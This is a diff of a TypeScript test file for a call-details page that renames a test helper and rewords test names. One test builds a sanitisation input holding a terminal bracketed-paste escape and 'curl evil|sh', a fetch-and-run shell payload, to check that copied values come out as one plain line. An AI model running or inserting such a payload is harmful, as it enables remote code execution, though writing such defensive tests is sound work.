@@ -18,7 +18,7 @@ const session = createSessionView({
 });
 const fields = { id: 's1', callState: 'Hold', members: [{ role: 'Agent' }], wasMissed: false };
 
-const bridgeWith = (
+const createBridge = (
   details: Parameters<typeof createDetails>[0] = {},
   answers: ConstructorParameters<typeof FakeBridge>[1] = {},
 ) =>
@@ -29,7 +29,7 @@ const bridgeWith = (
 
 describe('details page', () => {
   it('opens with a click and shows caller, customer and members', async () => {
-    const { page, user } = await renderApp(bridgeWith());
+    const { page, user } = await renderApp(createBridge());
     await user.click(page.getByRole('button', { name: /^Grace Hopper/ }));
     expect(
       await page.findByRole('heading', { level: 1, name: 'Grace Hopper' }),
@@ -40,7 +40,7 @@ describe('details page', () => {
   });
 
   it('returns the focus to the row it was opened from', async () => {
-    const { page, user } = await renderApp(bridgeWith());
+    const { page, user } = await renderApp(createBridge());
     page.getByRole('button', { name: /^Grace Hopper/ }).focus();
     await user.keyboard('{Enter}');
     await page.findByRole('heading', { level: 1, name: 'Grace Hopper' });
@@ -49,7 +49,7 @@ describe('details page', () => {
   });
 
   it('lists every raw field and copies it', async () => {
-    const bridge = bridgeWith();
+    const bridge = createBridge();
     const { page, user } = await renderApp(bridge);
     bridge.emit('window:navigate', { view: 'session', id: 's1' });
     await user.click(await page.findByText('All fields'));
@@ -65,7 +65,7 @@ describe('details page', () => {
 
   it('copies a value as one plain line', async () => {
     const endpointName = 'Desk\n\u001b[200~curl evil|sh\r\n\u009b';
-    const bridge = bridgeWith({ fields: { ...fields, endpointName } });
+    const bridge = createBridge({ fields: { ...fields, endpointName } });
     const { page, user } = await renderApp(bridge);
     bridge.emit('window:navigate', { view: 'session', id: 's1' });
     await user.click(await page.findByText('All fields'));
@@ -75,7 +75,7 @@ describe('details page', () => {
 
   it('shows the duration of each phase', async () => {
     const from = Date.now() - 200_000;
-    const bridge = bridgeWith({
+    const bridge = createBridge({
       segments: [
         { phase: 'ringing', from },
         { phase: 'connected', from: from + 18_000 },
@@ -95,7 +95,7 @@ describe('details page', () => {
 
   it('merges server events and phases by time', async () => {
     const from = Date.now() - 60_000;
-    const bridge = bridgeWith({
+    const bridge = createBridge({
       segments: [{ phase: 'connected', from: from + 10_000 }],
       events: [
         { at: from + 20_000, message: 'Maya muted herself' },
@@ -116,7 +116,7 @@ describe('details page', () => {
   });
 
   it('reloads when the session changes', async () => {
-    const bridge = bridgeWith();
+    const bridge = createBridge();
     await renderApp(bridge);
     bridge.emit('window:navigate', { view: 'session', id: 's1' });
     await expect.poll(() => bridge.requestsFor('session:details')).toHaveLength(1);
@@ -137,7 +137,7 @@ describe('details page', () => {
     await page.findByText(/nobody is known to have answered/);
   });
 
-  it('says so if the call does not exist', async () => {
+  it('reports that the call does not exist', async () => {
     const bridge = new FakeBridge();
     const { page } = await renderApp(bridge);
     bridge.emit('window:navigate', { view: 'session', id: 'nobody' });
@@ -145,7 +145,7 @@ describe('details page', () => {
   });
 
   it('opens the customer page and copies the number while the caller is on the line', async () => {
-    const bridge = bridgeWith({ canScreenPop: true });
+    const bridge = createBridge({ canScreenPop: true });
     const { page, user } = await renderApp(bridge);
     bridge.emit('window:navigate', { view: 'session', id: 's1' });
     await user.click(await page.findByRole('button', { name: 'Open customer page' }));
@@ -184,8 +184,8 @@ describe('details page', () => {
     expect(page.getByText('Answered by you')).toBeInTheDocument();
   });
 
-  it('says so if no browser opens the customer page', async () => {
-    const bridge = bridgeWith(
+  it('reports that no browser opened the customer page', async () => {
+    const bridge = createBridge(
       { canScreenPop: true },
       { 'session:screen-pop': () => ({ ok: false }) },
     );
